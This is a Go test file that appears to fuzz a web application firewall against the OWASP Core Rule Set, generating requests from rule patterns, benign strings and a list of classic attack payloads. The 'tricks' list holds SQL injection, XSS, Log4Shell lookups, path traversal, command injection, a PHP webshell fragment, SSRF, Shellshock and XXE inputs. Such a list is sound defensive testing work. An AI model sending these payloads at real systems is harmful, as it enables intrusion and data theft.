package differential_test

import (
	"io/fs"
	"math/rand/v2"
	"regexp/syntax"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"

	"github.com/lunette-waf/lunette/internal/rules/seclang"
)

// vocabulary is what requests are made of.
type vocabulary struct {
	words    []string         // of files of words and of @pm
	patterns []*syntax.Regexp // of @rx
}

// learn reads the words and patterns of the Core Rule Set.
func learn(t testing.TB, list []seclang.Directive) *vocabulary {
	t.Helper()
	v := &vocabulary{}
	for _, d := range list {
		if d.Rule == nil {
			continue
		}
		switch o := &d.Rule.Operator; o.ID {
		case seclang.OpRx:
			if re, err := syntax.Parse(o.Argument, syntax.Perl|syntax.DotNL); err == nil {
				v.patterns = append(v.patterns, re)
			}
		case seclang.OpPm, seclang.OpWithin, seclang.OpContains:
			v.words = append(v.words, strings.Fields(o.Argument)...)
		}
	}
	files, err := fs.Glob(coreruleset.FS, "@owasp_crs/*.data")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range files {
		b, err := fs.ReadFile(coreruleset.FS, name)
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(string(b)) {
			if line = strings.TrimSpace(line); line != "" && line[0] != '#' {
				v.words = append(v.words, line)
			}
		}
	}
	if len(v.patterns) < 300 || len(v.words) < 2000 {
		t.Fatalf("%d patterns and %d words: the rule set was not read", len(v.patterns), len(v.words))
	}
	return v
}

// text returns something that an attacker or anybody else may send.
func (v *vocabulary) text(r *rand.Rand) string {
	var s string
	switch r.IntN(10) {
	case 0, 1, 2, 3:
		var b strings.Builder
		sample(&b, r, v.patterns[r.IntN(len(v.patterns))], 0)
		s = b.String()
	case 4, 5:
		s = v.words[r.IntN(len(v.words))]
	case 6:
		s = pick(r, tricks()...)
	default:
		s = benign(r)
	}
	if r.IntN(6) == 0 {
		s += pick(r, "", " ", "\t", "--", "'", "\"", ";", "\x00", "|") + v.words[r.IntN(len(v.words))]
	}
	if r.IntN(5) == 0 && s != "" { // a near miss
		i := r.IntN(len(s))
		s = s[:i] + pick(r, "", " ", "x", "/**/", "\x00", "A", "\xff") + s[i+r.IntN(2):]
	}
	return s[:min(len(s), 600)]
}

// sample writes a text that matches re, look-arounds aside.
func sample(b *strings.Builder, r *rand.Rand, re *syntax.Regexp, depth int) {
	many := func(low, high int) int {
		if high < 0 || high > low+3 {
			high = low + 3
		}
		return low + r.IntN(high-low+1)
	}
	if depth > 40 || b.Len() > 400 {
		return
	}
	n := 1
	switch re.Op {
	case syntax.OpLiteral:
		for _, c := range re.Rune {
			if re.Flags&syntax.FoldCase != 0 && r.IntN(3) == 0 {
				c = unicode.SimpleFold(c)
			}
			writeRune(b, c)
		}
		return
	case syntax.OpCharClass:
		if len(re.Rune) > 0 {
			i := r.IntN(len(re.Rune)/2) * 2
			lo, hi := re.Rune[i], re.Rune[i+1]
			writeRune(b, lo+rune(r.IntN(int(min(hi-lo, 90))+1)))
		}
		return
	case syntax.OpAnyChar, syntax.OpAnyCharNotNL:
		b.WriteByte(byte(32 + r.IntN(95)))
		return
	case syntax.OpAlternate:
		sample(b, r, re.Sub[r.IntN(len(re.Sub))], depth+1)
		return
	case syntax.OpStar:
		n = many(0, -1)
	case syntax.OpPlus:
		n = many(1, -1)
	case syntax.OpQuest:
		n = r.IntN(2)
	case syntax.OpRepeat:
		n = many(re.Min, re.Max)
	}
	for range n {
		for _, sub := range re.Sub {
			sample(b, r, sub, depth+1)
		}
	}
}

func writeRune(b *strings.Builder, c rune) {
	if c > utf8.MaxRune || c < 0 {
		c = 'z'
	}
	b.WriteRune(c)
}

// benign returns what people and programs send all day.
func benign(r *rand.Rand) string {
	return pick(r, "42", "red shoes size 9", "ann@example.test", "2026-11-23T10:00:00Z", "O'Brien & Söhne", "https://shop.test/a?b=c", "true", "", "-1", "1.5e3", "日本語のテキスト",
		"select a colour, then pay", "The quick brown fox: jumps (over) the \"lazy\" dog!", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_", "550e8400-e29b-41d4-a716-446655440000",
		"100% sure", "C:\\Users\\ann\\file.txt", "a+b=c", "5 < 6 > 4", "#hashtag @name", "/var/www/index.html", "Union Street 5, ordered by phone", "x y  z\r\nnext line", "🎉 party", "null", "0x1F",
		strings.Repeat("lorem ipsum ", 1+r.IntN(12)))
}

// tricks are texts at which readers differ.
func tricks() []string {
	return []string{
		"1' OR '1'='1", "1 UNION SELECT password FROM users--", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://x.test/a}", "../../../../etc/passwd", "..%c0%af..%c0%afetc/passwd",
		";cat /etc/passwd", "|| ping -c 1 x.test", "$(id)", "`id`", "php://filter/convert.base64-encode/resource=x", "<?php system($_GET[1]);", "{{7*7}}", "%{(#a=1)}", "javascript:alert(1)",
		"\xbcscript\xbealert(1)\xbc/script\xbe", "\xc0\xbcscript", "\xff\xfe<\x00s\x00", "%u003cscript%u003e", "&lt;script&gt;", "&#x3c;script&#62;", "\\u003cscript\\x3e", "se/**/lect", "un/*x*/ion/*y*/select",
		"/*!50000UNION*/ SELECT 1", "a\x00b", "K\u212Aelvin", "ſcript", "\u00a0\u00a0x", "c^md /c di\"r", "r\\m -r'f' /", "%2e%2e%2f", "%252e%252e%252f", "--%0a1", "\r\nSet-Cookie: a=b", "\nHost: x", "%0d%0aX: y",
		"http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "x' AND SLEEP(5) AND 'a'='a", "1;DROP TABLE users", "1e309", "0x61646d696e", "constructor.__proto__[x]", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
		"O:8:\"stdClass\":0:{}", "() { :;}; echo x", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]>", "<xml:namespace>", "eval(atob('x'))", "window['alert'](1)", ")))))((((", "''''''\"\"\"\"", "%%%%", "%", "%4", "%zz", "&&&", "===", ";;;",
	}
}

func pick[T any](r *rand.Rand, all ...T) T { return all[r.IntN(len(all))] }
